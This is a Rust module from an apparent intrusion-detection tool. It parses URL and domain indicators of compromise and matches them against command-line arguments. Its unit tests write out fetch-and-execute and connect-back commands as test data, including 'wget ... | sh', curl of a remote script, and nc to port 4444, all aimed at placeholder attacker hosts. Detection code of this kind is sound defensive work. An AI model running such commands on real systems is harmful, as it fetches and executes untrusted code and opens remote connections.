//! Network indicators in IoC lists (URLs and domains), and finding them in a command line.
//!
//! A URL indicator (`http://203.0.113.7:8080/bins/x86`, as URLhaus lists them) matches an
//! argument that contains that URL (scheme and host in any case; a query or fragment after it
//! still matches). A domain indicator (`evil.example`, or an IP address) matches a URL whose
//! host is that domain or one of its subdomains, and a bare host argument (`wget
//! evil.example/x`, `nc evil.example 4444`, `ssh user@evil.example`).

use std::collections::HashMap;

/// One indicator as listed.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Indicator {
    /// Lowercased, no trailing dot.
    Domain(String),
    /// Scheme and host lowercased, the rest as listed.
    Url(String),
}

/// A network indicator and its name from the list.
pub type NetEntry = (Indicator, Option<String>);

/// The longest host name (RFC 1035).
const MAX_HOST: usize = 253;

fn is_host_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'.' || b == b'_'
}

/// A host name or IPv4 address: labels of letters, digits, `-` and `_`, at least one dot, not
/// all digits unless it is a dotted quad. Lowercased, without a trailing dot.
pub fn host(text: &[u8]) -> Option<String> {
    let t = text.strip_suffix(b".").unwrap_or(text);
    if t.is_empty() || t.len() > MAX_HOST || !t.iter().all(|&b| is_host_char(b)) || !t.contains(&b'.') {
        return None;
    }
    if t.split(|&b| b == b'.').any(|l| l.is_empty() || l.len() > 63 || l.starts_with(b"-")) {
        return None;
    }
    let last = t.rsplit(|&b| b == b'.').next()?;
    let ipv4 = t.split(|&b| b == b'.').count() == 4 && t.iter().all(|&b| b.is_ascii_digit() || b == b'.');
    if !ipv4 && !last.iter().any(u8::is_ascii_alphabetic) {
        return None; // `1.5`, a version number
    }
    Some(String::from_utf8_lossy(t).to_ascii_lowercase())
}

/// Where a URL in a command line ends: a space, a quote or a shell operator.
fn text_end(b: u8) -> bool {
    b.is_ascii_whitespace() || b"\"'<>`;|&()".contains(&b)
}

/// Where a URL's authority ends.
fn authority_end(b: u8) -> bool {
    matches!(b, b'/' | b'?' | b'#') || text_end(b)
}

/// The host of an authority (`user:pass@host:port`, `[v6]:port`).
fn authority_host(auth: &[u8]) -> Option<String> {
    let after_user = auth.rsplit(|&b| b == b'@').next().unwrap_or(auth);
    if let Some(v6) = after_user.strip_prefix(b"[") {
        let end = v6.iter().position(|&b| b == b']')?;
        return Some(String::from_utf8_lossy(&v6[..end]).to_ascii_lowercase());
    }
    let h = match after_user.iter().rposition(|&b| b == b':') {
        Some(p) => &after_user[..p],
        None => after_user,
    };
    host(h)
}

/// A URL found in a text: the URL normalized (scheme and authority lowercased, up to the
/// first character that cannot be part of it) and its host.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FoundUrl {
    pub url: String,
    pub host: String,
}

/// The URLs (`scheme://...`) in `text`.
pub fn urls_in(text: &[u8]) -> Vec<FoundUrl> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(p) = find(&text[from..], b"://").map(|p| p + from) {
        from = p + 3;
        let start = text[..p]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || b"+.-".contains(b)))
            .map_or(0, |i| i + 1);
        let scheme = &text[start..p];
        if scheme.is_empty() || !scheme[0].is_ascii_alphabetic() {
            continue;
        }
        let rest = &text[p + 3..];
        let auth_len = rest.iter().position(|&b| authority_end(b)).unwrap_or(rest.len());
        let Some(h) = authority_host(&rest[..auth_len]) else { continue };
        // Up to a space, a quote or a shell operator (`;`, `|`, `&`, parentheses).
        let tail_len = rest.iter().position(|&b| text_end(b)).unwrap_or(rest.len());
        let mut url = String::from_utf8_lossy(scheme).to_ascii_lowercase();
        url.push_str("://");
        // Without its user and password: what is recorded must not carry credentials.
        let auth = &rest[..auth_len];
        let at = auth.iter().rposition(|&b| b == b'@').map_or(0, |p| p + 1);
        url.push_str(&String::from_utf8_lossy(&auth[at..]).to_ascii_lowercase());
        url.push_str(&String::from_utf8_lossy(&rest[auth_len..tail_len]));
        out.push(FoundUrl { url, host: h });
    }
    out
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The host of an argument that is a bare host, `host/path`, `host:port` or `user@host`.
pub fn bare_host(arg: &[u8]) -> Option<String> {
    if find(arg, b"://").is_some() || arg.starts_with(b"-") {
        return None;
    }
    let end = arg.iter().position(|&b| b == b'/').unwrap_or(arg.len());
    authority_host(&arg[..end])
}

/// Reads one listed indicator: a URL (with `://`) or a domain.
pub fn parse_indicator(token: &[u8]) -> Option<Indicator> {
    if find(token, b"://").is_some() {
        let u = urls_in(token);
        return (u.len() == 1).then(|| Indicator::Url(u[0].url.clone()));
    }
    host(token).map(Indicator::Domain)
}

/// A match in a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NetMatch {
    /// Which argument (0 is the program as invoked).
    pub arg: usize,
    /// What was found there (the URL, or the bare host).
    pub found: String,
    /// Its host.
    pub host: String,
    /// The indicator it matched.
    pub indicator: String,
    /// (name id + 1 or 0, source id), as the hash set keeps them.
    pub meta: (u32, u32),
}

/// The network indicators of an IoC set.
#[derive(Debug, Default)]
pub struct NetIocs {
    domains: HashMap<String, (u32, u32)>,
    urls: HashMap<String, (u32, u32)>,
}

impl NetIocs {
    /// Adds one indicator; the first occurrence keeps its name and source.
    pub fn insert(&mut self, i: Indicator, meta: (u32, u32)) {
        let map = match &i {
            Indicator::Domain(_) => &mut self.domains,
            Indicator::Url(_) => &mut self.urls,
        };
        let key = match i {
            Indicator::Domain(d) | Indicator::Url(d) => d,
        };
        map.entry(key).or_insert(meta);
    }

    pub fn len(&self) -> usize {
        self.domains.len() + self.urls.len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The domain indicator `host` is in (itself or a parent domain).
    fn domain_of<'a>(&'a self, host: &'a str) -> Option<(&'a str, (u32, u32))> {
        let mut h = host;
        loop {
            if let Some(m) = self.domains.get(h) {
                return Some((h, *m));
            }
            h = h.split_once('.')?.1;
        }
    }

    fn url(&self, url: &str) -> Option<(&str, (u32, u32))> {
        if let Some((k, m)) = self.urls.get_key_value(url) {
            return Some((k, *m));
        }
        let cut = url.find(['?', '#'])?;
        self.urls.get_key_value(&url[..cut]).map(|(k, m)| (k.as_str(), *m))
    }

    /// The first argument of `args` that contains a listed URL, a URL on a listed domain, or
    /// is a bare host on one.
    pub fn match_args(&self, args: &[Vec<u8>]) -> Option<NetMatch> {
        if self.is_empty() {
            return None;
        }
        for (i, a) in args.iter().enumerate() {
            for u in urls_in(a) {
                let hit = self.url(&u.url).or_else(|| self.domain_of(&u.host));
                if let Some((ind, meta)) = hit {
                    return Some(NetMatch {
                        arg: i,
                        indicator: ind.to_owned(),
                        found: u.url,
                        host: u.host,
                        meta,
                    });
                }
            }
            if i == 0 {
                continue; // the program's own name
            }
            if let Some(h) = bare_host(a) {
                if let Some((ind, meta)) = self.domain_of(&h) {
                    return Some(NetMatch {
                        arg: i,
                        indicator: ind.to_owned(),
                        found: h.clone(),
                        host: h,
                        meta,
                    });
                }
            }
        }
        None
    }

    /// Approximate heap size.
    pub fn heap_bytes(&self) -> usize {
        self.domains.keys().chain(self.urls.keys()).map(|k| k.capacity() + 48).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(items: &[&str]) -> NetIocs {
        let mut s = NetIocs::default();
        for (i, t) in items.iter().enumerate() {
            s.insert(parse_indicator(t.as_bytes()).unwrap_or_else(|| panic!("{t}")), (0, i as u32));
        }
        s
    }

    fn args(v: &[&str]) -> Vec<Vec<u8>> {
        v.iter().map(|a| a.as_bytes().to_vec()).collect()
    }

    #[test]
    fn indicators_are_urls_domains_or_addresses_and_nothing_else() {
        assert_eq!(parse_indicator(b"Evil.Example."), Some(Indicator::Domain("evil.example".into())));
        assert_eq!(parse_indicator(b"203.0.113.7"), Some(Indicator::Domain("203.0.113.7".into())));
        assert_eq!(
            parse_indicator(b"HTTP://Evil.Example:8080/Bins/x86"),
            Some(Indicator::Url("http://evil.example:8080/Bins/x86".into()))
        );
        for bad in
            ["", "localhost", "1.5", "a..b", "-a.b", "evil.example/x", "http://", "x y.z", "ftp://:80/"]
        {
            assert_eq!(parse_indicator(bad.as_bytes()), None, "{bad}");
        }
    }

    #[test]
    fn urls_and_hosts_are_found_in_arguments() {
        let s = set(&["evil.example", "http://198.51.100.9/bins/x86", "203.0.113.7"]);
        let m = |v: &[&str]| s.match_args(&args(v)).map(|m| (m.arg, m.indicator, m.found));
        assert_eq!(
            m(&["curl", "-fsSL", "https://cdn.EVIL.example/a.sh"]),
            Some((2, "evil.example".into(), "https://cdn.evil.example/a.sh".into()))
        );
        assert_eq!(
            m(&["sh", "-c", "wget -q -O- http://198.51.100.9/bins/x86?v=2 | sh"]).unwrap().1,
            "http://198.51.100.9/bins/x86"
        );
        assert_eq!(m(&["sh", "-c", "curl https://evil.example/a;sh"]).unwrap().2, "https://evil.example/a");
        assert_eq!(m(&["sh", "-c", "(curl https://evil.example&)"]).unwrap().2, "https://evil.example");
        assert_eq!(m(&["wget", "http://198.51.100.9/bins/arm"]), None, "another URL on an unlisted host");
        assert_eq!(m(&["wget", "evil.example/x"]).unwrap().0, 1, "no scheme");
        assert_eq!(m(&["nc", "203.0.113.7", "4444"]).unwrap().1, "203.0.113.7");
        assert_eq!(m(&["ssh", "root@evil.example"]).unwrap().1, "evil.example");
        assert_eq!(m(&["curl", "http://user:pw@[2001:db8::1]:8/x"]), None);
        assert_eq!(
            m(&["curl", "http://admin:s3cret@Evil.Example:8/x"]).unwrap().2,
            "http://evil.example:8/x",
            "no credentials kept"
        );
        assert_eq!(
            m(&["curl", "https://notevil.example/x", "evil.example.org"]),
            None,
            "suffixes are by label"
        );
        assert_eq!(m(&["evil.example"]), None, "the program's name is not an argument");
        assert_eq!(m(&["ls", "-l", "/tmp/evil.example"]), None, "a path is not a host");
    }
}
